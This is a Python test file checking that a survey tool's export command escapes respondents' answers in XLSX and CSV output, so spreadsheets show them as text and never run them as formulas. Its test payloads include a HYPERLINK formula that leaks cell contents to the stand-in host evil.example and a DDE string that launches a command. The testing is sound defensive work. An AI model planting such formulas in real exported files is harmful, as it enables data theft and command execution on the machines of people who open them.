"""`chorus export` writes answers a spreadsheet shows as text, never runs as a formula (OWASP)."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from openpyxl import load_workbook

from surveys.crud.campaigns import get_campaign
from tests.bot.cli.test_campaigns_cli import CLUB, LAUNCH, db, launched_code
from tests.conftest import Cli
from tests.factories import add_answers, make_respondent

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"See details")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def exported(cli: Cli) -> tuple[Cli, str]:
    assert cli("surveys", "add", CLUB).exit_code == 0
    code = launched_code(cli(*LAUNCH, "--allow-no-safeguarding-lead"))
    with db(cli) as session:
        campaign = get_campaign(session, code=code)
        assert campaign is not None
        for payload in PAYLOADS:
            person = make_respondent(session, campaign=campaign)
            add_answers(session, respondent=person, answers={"t1": {"text": payload}})
    return cli, code


def test_xlsx_cells_are_text_not_formulas(exported: tuple[Cli, str], tmp_path: Path) -> None:
    cli, code = exported
    target = tmp_path / "answers.xlsx"
    assert cli("export", code, "--out", target).exit_code == 0
    sheet = load_workbook(target)["answers"]
    header = [cell.value for cell in sheet[1]]
    text_column = header.index("text") + 1
    cells = [row[text_column - 1] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == len(PAYLOADS)
    for cell in sheet.iter_rows():
        for one in cell:
            assert one.data_type != "f", (one.coordinate, one.value)
    assert {c.data_type for c in cells} == {"s"}
    # XML text keeps no carriage returns: openpyxl reads "\r" back as "\n".
    expected = sorted("'" + p.replace("\r", "\n") for p in PAYLOADS)
    assert sorted(str(c.value) for c in cells) == expected


def test_csv_text_cannot_start_a_formula(exported: tuple[Cli, str], tmp_path: Path) -> None:
    cli, code = exported
    target = tmp_path / "answers.csv"
    assert cli("export", code, "--out", target).exit_code == 0
    with target.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    texts = sorted(row["text"] for row in rows)
    assert texts == sorted("'" + p for p in PAYLOADS)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value
